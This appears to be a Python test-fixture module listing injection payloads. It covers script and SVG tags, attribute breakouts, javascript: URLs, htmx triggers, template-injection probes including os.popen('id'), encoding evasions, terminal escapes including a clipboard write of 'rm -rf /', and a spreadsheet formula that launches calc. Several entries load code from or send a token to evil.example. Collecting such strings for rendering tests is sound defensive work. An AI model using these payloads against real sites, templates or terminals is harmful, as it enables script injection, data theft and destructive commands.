"""What somebody types who wants a page, a template, a terminal or a log to do as they say.

Each text runs ``alert`` where a browser takes it for more than text, asks for a picture that is
nowhere, or becomes ``49`` where a template is rendered twice. Wherever people are shown what others
said, called themselves or left in user data, each of these is shown as it stands.
"""

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x" onerror="alert(1)">',
    "<img/src=`x`onerror=alert(1)>",
    '<img src=x:x onerror="&#97;lert(1)">',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=token>",
    "<a href=javascript:alert(1)>a</a>",
    "<math><a xlink:href=javascript:alert(1)>a</a></math>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x",
)

_SVG = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>a",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)

#: Out of where a text may stand: an attribute, an element, a script, a style, a comment, JSON.
_OUT = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    " autofocus onfocus=alert(1) x=",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    '\\"};alert(1);//',
    "${alert(1)}",
    "`-alert(1)-`",
    '{"x":"</script><script>alert(1)</script>"}',
    "]]></script><script>alert(1)</script>",
    "x\ndata: <script>alert(1)</script>\n\nevent: halt",
    "x\r\n\r\n<script>alert(1)</script>",
)

_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://x%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
)

#: What htmx and other scripts of a page would act on.
_ACTED_ON = (
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1) hx-trigger=load hx-get=/>",
    '<div hx-vals="js:{x:alert(1)}" hx-trigger=load hx-put=/api/v1/halt>',
    "<button hx-put=/api/v1/halt hx-trigger=load>",
    '<div data-hx-delete="/api/v1/halt" data-hx-trigger="load">',
    "<div id=__proto__><a name=constructor>",
    "<form id=location><input name=href>",
    "__proto__",
)

_TEMPLATES = (
    "{{7*7}}",
    "{{ 7 * 7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% print(7*7) %}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ secret('NAMED') }}",
    "{# x #}{{ event }}",
    "%(levelname)s %s %n {0.__class__}",
)

#: Other ways to write ``<``, ``>``, quotes, and nothing at all.
_WRITTEN_ELSE = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)\u2039/script\u203a",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<\u200bscript>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e>tpircs<)1(trela>tpircs/<",
    "\u2066<script>alert(1)</script>\u2069",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\u0131mg src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
)

_POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//",
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    "'\"><img src=x onerror=alert(1)>{{7*7}}${7*7}<%=7*7%>",
    "-->'\"/></sCript><svg onload=alert(1)>",
)

#: What steers a terminal, or begins a line of a log or a table anew.
_TERMINAL = (
    "\x1b[2J\x1b[1;1Hall is well",
    "\x1b]0;owned\x07",
    "\x1b]8;;http://evil.example\x1b\\a\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIC8=\x07",
    "\x9b31mred",
    "a\x08\x08b\x7f",
    "a\r2026-01-01T00:00:00Z [error] imbot.stopped",
    'a", "level": "error", "event": "imbot.stopped',
    "[bold red]imbot[/bold red]",
    "=cmd|' /C calc'!A0",
)

TEXTS: tuple[str, ...] = (
    *_TAGS,
    *_SVG,
    *_OUT,
    *_ADDRESSES,
    *_ACTED_ON,
    *_TEMPLATES,
    *_WRITTEN_ELSE,
    *_POLYGLOTS,
    *_TERMINAL,
)
